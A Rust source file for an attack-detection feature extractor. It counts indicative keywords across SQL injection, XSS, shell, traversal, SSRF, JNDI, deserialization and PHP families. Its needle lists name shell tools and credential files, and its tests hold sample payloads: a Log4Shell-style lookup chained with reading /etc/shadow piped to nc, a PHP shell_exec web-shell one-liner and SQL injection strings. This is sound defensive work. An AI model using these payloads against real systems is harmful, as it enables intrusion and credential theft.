//! Keyword families: counts of indicative substrings per attack family. They are features, not
//! rules: the model learns how much each family means in each location.

/// A named list of lower-case indicative substrings.
pub struct Family {
    /// Feature name suffix.
    pub name: &'static str,
    needles: &'static [&'static str],
}

impl Family {
    /// Number of needles found in `lower` (each counted once). [`family_hits`] gives the same
    /// for all families in one pass.
    #[cfg(test)]
    pub fn hits(&self, lower: &str) -> usize {
        self.needles.iter().filter(|n| lower.contains(*n)).count()
    }
}

/// Room in [`family_hits`]'s bitset; a test checks the families fit.
const MAX_NEEDLES: usize = 512;

/// Every needle of every family, grouped by first byte.
struct Index {
    /// `needles[by_first[b].0..by_first[b].1]` start with byte `b`.
    by_first: [(u16, u16); 256],
    /// (family, needle), sorted by the needle's first byte.
    needles: Vec<(u8, &'static [u8])>,
    /// Each needle's first four bytes (little-endian, zero-padded) and the mask of those it has:
    /// most candidates are rejected by one comparison of a word, without a call to memcmp.
    heads: Vec<(u32, u32)>,
    /// Bit `j` is set when needle `j` counts in decoded base64 ([`Found::decoded_count`]).
    decoded: [u64; MAX_NEEDLES / 64],
}

/// Up to four bytes of `bytes` from its start as a little-endian word, zero-padded.
fn head_word(bytes: &[u8]) -> u32 {
    let mut word = [0u8; 4];
    let n = bytes.len().min(4);
    word[..n].copy_from_slice(&bytes[..n]);
    u32::from_le_bytes(word)
}

fn index() -> &'static Index {
    static INDEX: std::sync::OnceLock<Index> = std::sync::OnceLock::new();
    INDEX.get_or_init(|| {
        let mut needles: Vec<(u8, &'static [u8])> = FAMILIES
            .iter()
            .enumerate()
            .flat_map(|(f, fam)| fam.needles.iter().map(move |n| (f as u8, n.as_bytes())))
            .filter(|(_, n)| !n.is_empty())
            .take(MAX_NEEDLES)
            .collect();
        needles.sort_by_key(|(_, n)| n[0]);
        let mut by_first = [(0u16, 0u16); 256];
        for (i, (_, n)) in needles.iter().enumerate() {
            let slot = &mut by_first[usize::from(n[0])];
            if slot.1 == 0 {
                slot.0 = i as u16;
            }
            slot.1 = i as u16 + 1;
        }
        let heads = needles
            .iter()
            .map(|(_, n)| {
                let mask = u32::MAX >> (8 * (4 - n.len().min(4)));
                (head_word(n), mask)
            })
            .collect();
        let mut decoded = [0u64; MAX_NEEDLES / 64];
        for (j, &(family, needle)) in needles.iter().enumerate() {
            if DECODED_FAMILIES.contains(&FAMILIES[usize::from(family)].name)
                && needle.len() >= MIN_DECODED_NEEDLE
            {
                decoded[j / 64] |= 1 << (j % 64);
            }
        }
        Index {
            by_first,
            needles,
            heads,
            decoded,
        }
    })
}

/// Number of distinct needles of each family found in `lower`, in [`FAMILIES`] order: one pass
/// over the text instead of one substring search per needle.
pub fn family_hits(lower: &str) -> [usize; FAMILIES.len()] {
    family_hits_any(&[lower])
}

/// Like [`family_hits`], but a needle counts once if it occurs in any of `texts` (readings of
/// one value, e.g. with and without its SQL comments).
pub fn family_hits_any(texts: &[&str]) -> [usize; FAMILIES.len()] {
    let idx = index();
    let mut found = [0u64; MAX_NEEDLES / 64];
    for text in texts {
        mark_needles(idx, text.as_bytes(), &mut found);
    }
    let mut hits = [0usize; FAMILIES.len()];
    for (j, &(family, _)) in idx.needles.iter().enumerate() {
        hits[usize::from(family)] += usize::from(found[j / 64] & (1 << (j % 64)) != 0);
    }
    hits
}

fn mark_needles(idx: &Index, bytes: &[u8], found: &mut [u64; MAX_NEEDLES / 64]) {
    for (i, &b) in bytes.iter().enumerate() {
        let (start, end) = idx.by_first[usize::from(b)];
        if start == end {
            continue;
        }
        let rest = &bytes[i..];
        let word = head_word(rest);
        for j in usize::from(start)..usize::from(end) {
            let (head, mask) = idx.heads[j];
            if word & mask != head || found[j / 64] & (1 << (j % 64)) != 0 {
                continue;
            }
            let needle = idx.needles[j].1;
            if needle.len() <= 4 || rest.starts_with(needle) {
                found[j / 64] |= 1 << (j % 64);
            }
        }
    }
}

/// Families whose keywords are also counted in decoded base64 ([`super::magic`]): code that an
/// application runs or loads after decoding it.
pub const DECODED_FAMILIES: &[&str] = &["java", "php", "deserialization", "jndi"];

/// Shortest needle counted in decoded base64: shorter ones turn up in random bytes.
const MIN_DECODED_NEEDLE: usize = 4;

/// Needles found so far over several texts (see [`Found::mark_decoded`]).
#[derive(Default)]
pub struct Found([u64; MAX_NEEDLES / 64]);

impl Found {
    /// Marks the needles found in `lower` (lower-case bytes, not necessarily UTF-8).
    pub fn mark_decoded(&mut self, lower: &[u8]) {
        mark_needles(index(), lower, &mut self.0);
    }

    /// Distinct needles found of [`DECODED_FAMILIES`], [`MIN_DECODED_NEEDLE`] bytes or longer.
    pub fn decoded_count(&self) -> usize {
        self.0
            .iter()
            .zip(index().decoded)
            .map(|(found, decoded)| (found & decoded).count_ones() as usize)
            .sum()
    }
}

/// The needles that can occur in a plain value (letters, digits, space, `- _ . , : @ + /`),
/// found through a bitset of their first two bytes.
struct PlainIndex {
    /// Bit `(a << 8) | b` is set when some plain needle starts with `a b`.
    pairs: Vec<u64>,
    /// Plain needles of one byte.
    singles: [bool; 256],
    /// Plain needles of two bytes or more with their first two bytes (`a << 8 | b`), sorted by
    /// those.
    needles: Vec<(u16, &'static [u8])>,
}

fn is_plain_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric()
        || matches!(
            b,
            b' ' | b'-' | b'_' | b'.' | b',' | b':' | b'@' | b'+' | b'/'
        )
}

fn plain_index() -> &'static PlainIndex {
    static INDEX: std::sync::OnceLock<PlainIndex> = std::sync::OnceLock::new();
    INDEX.get_or_init(|| {
        let mut index = PlainIndex {
            pairs: vec![0; (1 << 16) / 64],
            singles: [false; 256],
            needles: Vec::new(),
        };
        let plain = FAMILIES
            .iter()
            .flat_map(|f| f.needles.iter())
            .map(|n| n.as_bytes())
            .filter(|n| !n.is_empty() && n.iter().all(|&b| is_plain_byte(b)));
        for n in plain {
            match *n {
                [a] => index.singles[usize::from(a)] = true,
                [a, b, ..] => {
                    let pair = usize::from(a) << 8 | usize::from(b);
                    if let Some(w) = index.pairs.get_mut(pair / 64) {
                        *w |= 1 << (pair % 64);
                    }
                    index.needles.push((pair as u16, n));
                }
                [] => {}
            }
        }
        index.needles.sort_by_key(|&(pair, _)| pair);
        index
    })
}

/// True when a lower-case *name* (`java.lang.runtime`, `a.xmldecoder`; `[`/`]` read as `.`)
/// holds a class or gadget needle of the `java` or `deserialization` family: one with a `.` or
/// ten bytes or more. The other needles are words that names are made of (`order`, `select_`,
/// `reduce`, `data`), so they are not checked here; nor is `base64data`, a field of many APIs.
/// [`any_plain_hit`] screens first: most names have no needle of any family.
pub fn name_hit(lower: &[u8]) -> bool {
    any_plain_hit(lower)
        && FAMILIES
            .iter()
            .filter(|f| matches!(f.name, "java" | "deserialization"))
            .flat_map(|f| f.needles.iter())
            .filter(|n| (n.contains('.') || n.len() >= 10) && **n != "base64data")
            .any(|n| lower.windows(n.len()).any(|w| w == n.as_bytes()))
}

/// True when some needle of some family occurs in `lower`, a lower-case value made only of
/// plain bytes (letters, digits, space, `- _ . , : @ + /`): the same answer as
/// `family_hits(lower)` having a nonzero count, found with one bit test per byte pair.
pub fn any_plain_hit(lower: &[u8]) -> bool {
    let index = plain_index();
    let mut prev: Option<u8> = None;
    for (i, &b) in lower.iter().enumerate() {
        if index.singles[usize::from(b)] {
            return true;
        }
        if let Some(a) = prev {
            let pair = usize::from(a) << 8 | usize::from(b);
            let hit = index
                .pairs
                .get(pair / 64)
                .is_some_and(|w| w & (1 << (pair % 64)) != 0);
            if hit {
                let rest = lower.get(i - 1..).unwrap_or_default();
                let first = index
                    .needles
                    .partition_point(|&(p, _)| usize::from(p) < pair);
                let candidates = index.needles.get(first..).unwrap_or_default();
                if candidates
                    .iter()
                    .take_while(|&&(p, _)| usize::from(p) == pair)
                    .any(|(_, n)| rest.starts_with(n))
                {
                    return true;
                }
            }
        }
        prev = Some(b);
    }
    false
}

/// The families, in feature order.
pub const FAMILIES: &[Family] = &[
    Family {
        name: "sql",
        needles: &[
            "union",
            "select ",
            "insert ",
            "update ",
            "delete ",
            "drop ",
            " from ",
            "where ",
            "sleep(",
            "benchmark(",
            "waitfor",
            "information_schema",
            "concat(",
            "char(",
            "--",
            "/*",
            "xp_cmdshell",
            "load_file",
            "outfile",
            "having ",
            "order by",
            "' or",
            "\" or",
            "' and",
            "or 1=1",
            "pg_sleep",
            "extractvalue",
            "updatexml",
            "@@version",
            "case when",
            "substring(",
            "sysobjects",
            "dbms_",
            "cast(",
            "convert(",
        ],
    },
    Family {
        name: "xss",
        needles: &[
            "<script",
            "javascript:",
            "alert(",
            "prompt(",
            "confirm(",
            "<img",
            "<svg",
            "<iframe",
            "document.",
            "eval(",
            "srcdoc",
            "<body",
            "vbscript:",
            "expression(",
            "fromcharcode",
            "<object",
            "<embed",
            "<details",
            "<math",
            "<style",
            "<link",
            "<meta",
            "window.",
            "<input",
            "<video",
            "<audio",
            "data:text/html",
            "innerhtml",
            "</",
        ],
    },
    Family {
        name: "shell",
        needles: &[
            ";",
            "|",
            "&&",
            "`",
            "$(",
            "${ifs",
            "/bin/",
            "bash",
            "sh -c",
            "cat ",
            "ls ",
            "whoami",
            "uname",
            "wget ",
            "curl ",
            "nc ",
            "ping ",
            "sleep ",
            "cmd.exe",
            "cmd /c",
            "powershell",
            "echo ",
            "rm -",
            "chmod",
            "nslookup",
            "net user",
            "/dev/tcp",
            "id\n",
            ";id",
            "|id",
            "perl -e",
            "python -c",
        ],
    },
    Family {
        name: "traversal",
        needles: &[
            "../",
            "..\\",
            "/etc/",
            "passwd",
            "/shadow",
            "win.ini",
            "boot.ini",
            "system32",
            "/proc/self",
            "php://",
            "/var/log",
            ".htaccess",
            "web.config",
            "c:\\",
            "..;/",
            "/windows/",
            "\0",
        ],
    },
    Family {
        name: "ssrf",
        needles: &[
            "://127.",
            "localhost",
            "169.254.169.254",
            "metadata",
            "://0x",
            "://[::",
            "gopher://",
            "dict://",
            "ftp://",
            "file://",
            "://0.0.0.0",
            "://0/",
            "2130706433",
            "://10.",
            "://192.168.",
            "://172.",
            "internal",
            "tftp://",
            "ldap://",
            "jar:",
            "@127.",
        ],
    },
    Family {
        name: "template",
        needles: &[
            "{{",
            "}}",
            "{%",
            "%}",
            "${",
            "#{",
            "<%",
            "%>",
            "__class__",
            "__globals__",
            "__builtins__",
            "__import__",
            "config.",
            "self.",
            "lipsum",
            "7*7",
            "getclass",
            "forname",
            "freemarker",
            "#set(",
            "@(",
            "*{",
        ],
    },
    Family {
        name: "jndi",
        needles: &[
            "${jndi", "jndi:", "ldap:", "rmi:", "dns:", "ldaps:", "iiop:", "${lower", "${upper",
            "${env", "${sys", "${::-", ":-", "corba:", "nds:",
        ],
    },
    Family {
        name: "nosql",
        needles: &[
            "$ne",
            "$gt",
            "$lt",
            "$gte",
            "$lte",
            "$where",
            "$regex",
            "$exists",
            "$in",
            "$nin",
            "$or",
            "$and",
            "$expr",
            "$elemmatch",
            "this.",
            "db.",
            "[$",
            "function(",
            "mapreduce",
        ],
    },
    Family {
        name: "crlf",
        needles: &[
            "\r\n",
            "\n",
            "\r",
            "set-cookie",
            "location:",
            "content-length",
            "http/1.",
            "content-type:",
            "x-forwarded",
            "\u{560a}",
            "\u{560d}",
        ],
    },
    Family {
        name: "xxe",
        needles: &[
            "<!doctype",
            "<!entity",
            "system \"",
            "system '",
            "<?xml",
            "public \"",
            "%xxe",
            "file:///",
            "expect://",
            "&xxe",
            "<!element",
            "xinclude",
            "xi:include",
        ],
    },
    Family {
        name: "deserialization",
        needles: &[
            "ro0ab",
            "aced0005",
            "o:8:",
            "a:2:{",
            "s:4:",
            "__php_incomplete",
            "cposix",
            "c__builtin__",
            "(lp0",
            "reduce",
            "!!python",
            "!ruby/",
            "!!java",
            "!!javax",
            "typeobject",
            "$type",
            "system.windows",
            "objectdataprovider",
            "java.lang.runtime",
            "ysoserial",
            "o:+",
            "cos\nsystem",
            "gadget",
            "processbuilder",
            "invokertransformer",
            "system.diagnostics",
        ],
    },
    Family {
        name: "ldap",
        needles: &[
            "*)(",
            ")(",
            "(|",
            "(&",
            "objectclass",
            "*)",
            "(uid=",
            "(cn=",
            "\\2a",
            "(!(",
            "userpassword",
            "samaccountname",
        ],
    },
    Family {
        // Java and JVM class names and gadget vocabulary: polymorphic-typing ids
        // (`{"@type":"com.sun.rowset.JdbcRowSetImpl"}`), class-loading parameters and expression
        // payloads name the classes they need, and a bare dotted class name is plain text that
        // would otherwise be left out unscored.
        name: "java",
        needles: &[
            "java.lang",
            "java.io.",
            "java.net.",
            "java.nio.",
            "java.util.",
            "java.beans",
            "java.rmi",
            "java.security",
            "javax.naming",
            "javax.script",
            "javax.management",
            "javax.xml",
            "jdk.",
            "sun.misc",
            "sun.reflect",
            "sun.rmi",
            "com.sun.",
            "org.apache.commons",
            "org.apache.xalan",
            "org.apache.xbean",
            "org.apache.tomcat",
            "org.apache.catalina",
            "org.apache.struts",
            "org.apache.log4j",
            "org.apache.naming",
            "org.springframework",
            "org.codehaus",
            "org.hibernate",
            "org.jboss",
            "org.mozilla.javascript",
            "com.mchange",
            "com.alibaba",
            "com.opensymphony",
            "ognl",
            "bsh.",
            "groovy.",
            "weblogic",
            "com.caucho",
            "getruntime",
            "classloader",
            "templatesimpl",
            "jdbcrowsetimpl",
            "chainedtransformer",
            "constanttransformer",
            "instantiatetransformer",
            "instantiatefactory",
            "clonetransformer",
            "prototypeclonefactory",
            "prototypeserializationfactory",
            "whileclosure",
            "forclosure",
            "methodclosure",
            "lazymap",
            "tiedmapentry",
            "beancomparator",
            "xmldecoder",
            "unmarshaller",
            "scriptenginemanager",
            "defineclass",
            "newinstance",
            "getdeclared",
            "setaccessible",
            "getmethod",
            "fileoutputstream",
            "fileinputstream",
            "filewriter",
            "urlclassloader",
            "base64data",
            "_memberaccess",
        ],
    },
    Family {
        // PHP code: execution and file functions, superglobals, stream wrappers, magic methods.
        name: "php",
        needles: &[
            "<?php",
            "<?=",
            "phpinfo",
            "passthru",
            "shell_exec",
            "system(",
            "exec(",
            "popen(",
            "proc_open",
            "pcntl_exec",
            "assert(",
            "base64_decode",
            "gzinflate",
            "str_rot13",
            "create_function",
            "call_user_func",
            "preg_replace",
            "file_get_contents",
            "file_put_contents",
            "fopen(",
            "fwrite(",
            "include(",
            "require(",
            "include_once",
            "require_once",
            "$_get",
            "$_post",
            "$_request",
            "$_server",
            "$_cookie",
            "$_files",
            "$_env",
            "$globals",
            "phar://",
            "zip://",
            "data://",
            "expect://",
            "__destruct",
            "__wakeup",
            "highlight_file",
            "show_source",
            "readfile",
            "unserialize",
            "array_map(",
            "ini_set",
            "getenv(",
        ],
    },
];

/// An HTML event-handler attribute: `on<letters>` then optional spaces then `=`.
pub fn has_event_handler(lower: &str) -> bool {
    let bytes = lower.as_bytes();
    let mut i = 0;
    while let Some(pos) = lower[i..].find("on") {
        let start = i + pos;
        let preceded_ok = start == 0
            || matches!(
                bytes[start - 1],
                b' ' | b'/' | b'"' | b'\'' | b'\t' | b'\n' | b'<' | b';'
            );
        let mut j = start + 2;
        while j < bytes.len() && bytes[j].is_ascii_lowercase() {
            j += 1;
        }
        let letters = j - start - 2;
        while j < bytes.len() && matches!(bytes[j], b' ' | b'\t' | b'\n') {
            j += 1;
        }
        if preceded_ok && letters >= 3 && bytes.get(j) == Some(&b'=') {
            return true;
        }
        i = start + 2;
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_needle_fits_the_bitset() {
        let n: usize = FAMILIES.iter().map(|f| f.needles.len()).sum();
        assert!(n <= MAX_NEEDLES, "{n} needles");
        assert_eq!(index().needles.len(), n);
        for name in DECODED_FAMILIES {
            assert!(FAMILIES.iter().any(|f| f.name == *name), "{name}");
        }
    }

    #[test]
    fn java_class_names_and_php_calls_are_counted() {
        let java = FAMILIES.iter().find(|f| f.name == "java").unwrap();
        let php = FAMILIES.iter().find(|f| f.name == "php").unwrap();
        assert!(java.hits("com.sun.rowset.jdbcrowsetimpl") >= 2);
        assert!(java.hits("java.lang.runtime") >= 1);
        assert!(java.hits("t(java.lang.runtime).getruntime().exec('id')") >= 2);
        assert_eq!(java.hits("running the quarterly report"), 0);
        assert!(php.hits("<?php echo shell_exec($_get['c']); ?>") >= 3);
        assert_eq!(php.hits("please execute the plan"), 0);
    }

    #[test]
    fn one_pass_counts_equal_one_search_per_needle() {
        for text in [
            "",
            "1' union select password from users where 1=1 --",
            "${jndi:ldap://x/a} ../../etc/passwd; cat /etc/shadow | nc x 1",
            "<img src=x onerror=alert(1)> *)(uid=*) {{7*7}} \\u00e9t\\u00e9",
            "\u{1}caf\u{e9} 保持する o:+8:\"x\"",
            // needles cut by the end of the text, and needles that end it
            "a uni",
            "1 --",
            "x|id\n",
            "select",
            "/bin",
            "ls",
            "\0\0|",
        ] {
            let one_pass = family_hits(text);
            for (f, fam) in FAMILIES.iter().enumerate() {
                assert_eq!(one_pass[f], fam.hits(text), "{} on {text:?}", fam.name);
            }
        }
    }

    #[test]
    fn plain_hits_equal_the_family_counts() {
        const PIECES: &[&str] = &[
            "a",
            "n",
            "o",
            "i",
            " ",
            "-",
            "_",
            ".",
            ",",
            ":",
            "@",
            "+",
            "/",
            "0",
            "7",
            "select ",
            "union",
            "from",
            "sleep ",
            "bash",
            "ls",
            "cat",
            "etc",
            "bin",
            "localhost",
            "x",
            "order by",
            "jar",
            "ldap",
            "dns",
            "rmi",
            "self",
            "config",
            "this",
            "db",
            "in",
        ];
        let mut state = 0x9e37_79b9_7f4a_7c15u64;
        for _ in 0..50_000 {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            let n = (state % 12) as usize;
            let text: String = (0..n)
                .map(|k| PIECES[((state >> (5 * k)) % PIECES.len() as u64) as usize])
                .collect();
            let counted = family_hits(&text).iter().any(|&h| h > 0);
            assert_eq!(any_plain_hit(text.as_bytes()), counted, "{text:?}");
        }
        for f in FAMILIES {
            for n in f.needles {
                if n.bytes().all(is_plain_byte) {
                    assert!(any_plain_hit(n.as_bytes()), "{n:?}");
                }
            }
        }
    }

    #[test]
    fn event_handlers_are_found_and_prose_is_not() {
        assert!(has_event_handler("<img src=x onerror=alert(1)>"));
        assert!(has_event_handler("<svg/onload =x>"));
        assert!(!has_event_handler("put it on hold"));
        assert!(!has_event_handler("contact=me"));
        assert!(!has_event_handler("money = 3"));
    }
}
